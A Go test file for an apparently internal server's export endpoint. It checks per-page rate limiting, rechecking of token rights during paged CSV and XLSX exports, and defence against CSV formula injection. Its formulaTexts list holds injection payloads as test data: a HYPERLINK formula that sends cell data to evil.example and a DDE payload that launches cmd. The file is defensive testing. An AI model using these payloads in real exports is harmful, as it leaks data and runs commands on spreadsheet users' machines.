package server

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/creditgraph/creditgraph/authz"
	"github.com/creditgraph/creditgraph/derrors"
	"github.com/creditgraph/creditgraph/graph"
	"github.com/creditgraph/creditgraph/seed/seedtest"
	"github.com/creditgraph/creditgraph/storage/storagetest"
	"github.com/creditgraph/creditgraph/vocab"
)

// An export costs its caller one request of the rate for each page it reads, not one for the
// whole: otherwise one request would buy up to MaxExportRows rows of work. Pages beyond the
// bucket wait for it to refill instead of cutting the file.
func TestExportPagesTakeFromTheCallersRate(t *testing.T) {
	defer func(n int) { exportPage = n }(exportPage)
	exportPage = 5
	storagetest.Each(t, func(t *testing.T, e storagetest.Engine) {
		db := e.Open(t, storagetest.Options{})
		acc := seedtest.DemoAccess(t, db)
		serve := func(edge EdgeConfig) *httptest.Server {
			srv := httptest.NewServer(New(Config{Deps: graph.Deps{Client: db.Client, Ledger: db.Ledger, Authorizer: acc.Authorizer},
				Tokens: acc.Tokens, Ready: db.Ready, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), Edge: edge}))
			t.Cleanup(srv.Close)
			return srv
		}
		get := func(srv *httptest.Server, path string) (int, string) {
			t.Helper()
			req, _ := http.NewRequest(http.MethodGet, srv.URL+path, nil)
			req.Header.Set("Authorization", "Bearer "+acc.Secrets["demo-market-clerk"])
			res, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer res.Body.Close()
			body, _ := io.ReadAll(res.Body)
			return res.StatusCode, string(body)
		}
		export := "/export?" + url.Values{"connection": {"departments"}, "fields": {"code"}, "format": {"csv"}, "limit": {"15"}}.Encode()
		lines := func(body string) int { return strings.Count(strings.TrimSpace(body), "\n") } // rows after the header

		// A bucket of three: the export's three pages take all of it, and the next request waits.
		spent := serve(EdgeConfig{RatePerToken: 0.001, RateBurst: 3})
		if code, body := get(spent, export); code != http.StatusOK || lines(body) != 15 {
			t.Fatalf("export: %d, %d rows: %.300s", code, lines(body), body)
		}
		if code, body := get(spent, "/export?"+url.Values{"connection": {"departments"}, "format": {"csv"}, "limit": {"1"}}.Encode()); code != http.StatusTooManyRequests {
			t.Errorf("after a three-page export on a bucket of three, another request got %d %.200s; want 429", code, body)
		}
		// A bucket of one that refills quickly: the pages wait their turn and the file is whole.
		paced := serve(EdgeConfig{RatePerToken: 50, RateBurst: 1})
		if code, body := get(paced, export); code != http.StatusOK || lines(body) != 15 {
			t.Errorf("paced export: %d, %d rows: %.300s", code, lines(body), body)
		}
	})
}

// runsAsFormula tells whether a spreadsheet opening a CSV would read cell as a formula: it
// begins with =, +, -, @, a tab or a carriage return and is not a plain number (OWASP's list).
func runsAsFormula(cell string) bool {
	if cell == "" || !strings.ContainsAny(cell[:1], "=+-@\t\r") {
		return false
	}
	_, err := strconv.ParseFloat(cell, 64)
	return err != nil || strings.ContainsAny(cell, "eEiInNxXpP_") // not a signed decimal number
}

// csvCells writes cells as one row through the export's CSV writer and reads them back.
func csvCells(t testing.TB, cells []string) []string {
	var b strings.Builder
	w := &csvWriter{w: csv.NewWriter(&b)}
	if err := w.row(append(cells, "end")); err != nil { // a row of one empty cell is a blank line
		t.Fatal(err)
	}
	if err := w.close(nil); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 1 || len(rows[0]) != len(cells)+1 {
		t.Fatalf("the CSV of %q reads back as %q (%v)", cells, rows, err)
	}
	return rows[0][:len(cells)]
}

// checkCSVCell holds a written cell to what was exported: never a formula, and the text itself,
// apostrophe-prefixed exactly when it would otherwise run.
func checkCSVCell(t testing.TB, text, got string) {
	t.Helper()
	if runsAsFormula(got) {
		t.Errorf("%q is exported as %q, which a spreadsheet runs as a formula", text, got)
	}
	want := text
	if runsAsFormula(text) {
		want = "'" + text
	}
	if got != want {
		t.Errorf("%q is exported as %q, want %q", text, got, want)
	}
}

var formulaTexts = []string{
	`=HYPERLINK("http://evil.example/?d="&B2&C2,"查看详情")`, `=1+1`, `+1+1`, `-2+3`, `@SUM(1,1)`,
	"\t=1+1", "\r=1+1", `-cmd|' /C calc'!A0`, `=`, `-`, `+`, `@`, `=罚款`,
	// Not formulas: numbers, dates, text, an apostrophe already there, empty.
	`-5`, `+3.25`, `12`, `0.5`, `2026-03-01`, `某公司`, `'=1+1`, ``, ` =1+1`, `-.5`, `1e5`,
}

// Every exported CSV cell whose text a spreadsheet would run as a formula is made text, and
// every other cell is written as it is: the class of CSV injection, whatever field the text came
// from (TestExportsNeverCarryFormulas plants it through the API).
func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
	got := csvCells(t, formulaTexts)
	for i, text := range formulaTexts {
		checkCSVCell(t, text, got[i])
	}
}

func FuzzCSVCell(f *testing.F) {
	for _, s := range formulaTexts {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if !utf8.ValidString(text) || strings.Contains(text, "\n") {
			t.Skip() // encoding/csv reads a line break inside a quoted field back as \n
		}
		checkCSVCell(t, text, csvCells(t, []string{text})[0])
	})
}

// An export reads every page with the rights its token has at that page, not the rights it
// started with: a revocation or a change of the token's rights (more or less) stops it before
// the next page, as it would stop the same pages read as queries; another caller's change
// does not. An export that stops, or fails, after its first bytes were sent is cut off — the
// reader sees a broken transfer, never a part that reads as the whole file — and one that
// stops before (an XLSX is sent only when complete) is answered with the error. The change is
// made where it can bite hardest: after the first page, before the second.
func TestAnExportReadsWithTheRightsItsTokenHasNow(t *testing.T) {
	defer func(n int) { exportPage = n }(exportPage)
	exportPage = 5
	storagetest.Each(t, func(t *testing.T, e storagetest.Engine) {
		db := e.Open(t, storagetest.Options{})
		acc := seedtest.DemoAccess(t, db)
		ctx := context.Background()
		logger := slog.New(slog.NewTextHandler(io.Discard, nil))
		deps := graph.Deps{Client: db.Client, Ledger: db.Ledger, Authorizer: acc.Authorizer}
		gql := graph.NewHandler(graph.HandlerConfig{Deps: deps, Tokens: acc.Tokens, Logger: logger})
		issue := func(name string) string {
			secret, err := acc.Tokens.Issue(ctx, authz.IssueRequest{Name: name, Department: "market", Role: authz.RoleClerk})
			if err != nil {
				t.Fatal(err)
			}
			return secret
		}
		publicLabour := authz.Rule{PType: "p", V: [4]string{authz.RolePublic, authz.AllDomains, string(authz.RecordsOf(vocab.Labour)), string(authz.Read)}}
		const rows = 15 // three pages

		revoke := func(t *testing.T, name string) {
			if err := acc.Tokens.Revoke(ctx, name); err != nil {
				t.Fatal(err)
			}
		}
		cases := []struct {
			name, token string
			// before is made before the export, between after its first page.
			before, between func(t *testing.T, token string)
			// failing makes the GraphQL handler fail the second page.
			failing bool
			// code is what the export stops with (its audit outcome); "" for a whole file.
			code string
		}{
			{name: "nothing changes", token: "x-still"},
			{name: "another token's rights change", token: "x-bystander",
				between: func(t *testing.T, _ string) {
					seedtest.ChangeRule(t, acc.Authorizer, true, seedtest.ClerkOf("x-someone-else", "labour"))
				}},
			{name: "the token is revoked", token: "x-revoked", code: derrors.CodeUnauthenticated, between: revoke},
			{name: "the token's rights grow", token: "x-grows", code: derrors.CodeConflict,
				between: func(t *testing.T, name string) {
					seedtest.ChangeRule(t, acc.Authorizer, true, seedtest.ClerkOf(name, "labour"))
				}},
			{name: "the token's rights shrink", token: "x-shrinks", code: derrors.CodeConflict,
				before: func(t *testing.T, name string) {
					seedtest.ChangeRule(t, acc.Authorizer, true, seedtest.ClerkOf(name, "labour"))
				},
				between: func(t *testing.T, name string) {
					seedtest.ChangeRule(t, acc.Authorizer, false, seedtest.ClerkOf(name, "labour"))
				}},
			{name: "the public's rights change", code: derrors.CodeConflict,
				between: func(t *testing.T, _ string) {
					seedtest.ChangeRule(t, acc.Authorizer, true, publicLabour)
					t.Cleanup(func() { _ = acc.Authorizer.RemoveRule(ctx, publicLabour) })
				}},
			{name: "a page fails", token: "x-page", failing: true, code: "FAILED"},
		}
		for _, format := range []string{"csv", "xlsx"} {
			for _, c := range cases {
				t.Run(format+": "+c.name, func(t *testing.T) {
					name, secret := c.token, ""
					if name != "" {
						name += "-" + format
						secret = issue(name)
					}
					if c.before != nil {
						c.before(t, name)
					}
					var pages int
					var handler http.Handler = gql
					if c.failing {
						handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
							if pages++; pages == 2 {
								w.Header().Set("Content-Type", "application/json")
								_, _ = io.WriteString(w, `{"errors":[{"message":"the second page failed","extensions":{"code":"UNAVAILABLE"}}],"data":null}`)
								return
							}
							gql.ServeHTTP(w, r)
						})
					}
					paced := 0
					pace := func(context.Context) error {
						if paced++; paced == 1 && c.between != nil {
							c.between(t, name)
						}
						return nil
					}
					srv := httptest.NewServer(acc.Tokens.Middleware(exportHandler(handler, db.Client, logger, pace)))
					t.Cleanup(srv.Close)
					req, _ := http.NewRequest(http.MethodGet, srv.URL+"/export?"+url.Values{"connection": {"departments"}, "fields": {"code"},
						"format": {format}, "limit": {strconv.Itoa(rows)}}.Encode(), nil)
					if secret != "" {
						req.Header.Set("Authorization", "Bearer "+secret)
					}
					res, err := http.DefaultClient.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					body, readErr := io.ReadAll(res.Body)
					res.Body.Close()
					audited := func(outcome string, n int) {
						t.Helper()
						who := name
						if who == "" {
							who = "public"
						}
						var got int
						if err := db.SQL.QueryRowContext(ctx, `SELECT COUNT(*) FROM audit_logs WHERE kind = 'EXPORT' AND outcome = ? AND operation = ? AND (token_name = ? OR ? = '')`,
							outcome, fmt.Sprintf("export departments %s %d rows", format, n), who, name).Scan(&got); err != nil {
							t.Fatal(err)
						}
						if got < 1 {
							t.Errorf("no EXPORT audit row with outcome %s and %d rows", outcome, n)
						}
					}
					switch {
					case c.code == "":
						if readErr != nil || res.StatusCode != http.StatusOK || res.Trailer.Get("X-Export-Rows") != strconv.Itoa(rows) {
							t.Fatalf("the export was not whole: %d, %v, trailers %v: %.200q", res.StatusCode, readErr, res.Trailer, body)
						}
						audited("TRUNCATED", rows) // departments has more than 15 rows
					case format == "csv":
						// The header and the first page had gone out: the rest is cut off.
						if readErr == nil {
							t.Fatalf("a CSV stopped after its first page (%s) reads as a whole file: %d, trailers %v: %q", c.code, res.StatusCode, res.Trailer, body)
						}
						if n := strings.Count(string(body), "\n"); n > exportPage+1 {
							t.Errorf("%d lines arrived after the stop, want at most the header and the first page", n)
						}
						audited(c.code, exportPage)
					default:
						// Nothing of the workbook had gone out: the error is the answer.
						want := map[string]int{derrors.CodeUnauthenticated: 401, derrors.CodeConflict: 409, "FAILED": 200}[c.code]
						wantCode := c.code
						if c.failing {
							wantCode = "UNAVAILABLE" // as the page answered it
						}
						if readErr != nil || res.StatusCode != want || !strings.Contains(string(body), `"`+wantCode+`"`) ||
							!strings.HasPrefix(res.Header.Get("Content-Type"), "application/json") || res.Header.Get("Content-Disposition") != "" {
							t.Fatalf("an XLSX stopped (%s) before it was sent: %d %v %v, want %d with %s: %.300s", c.code, res.StatusCode, readErr, res.Header, want, wantCode, body)
						}
						audited(c.code, exportPage)
					}
				})
			}
		}
	})
}
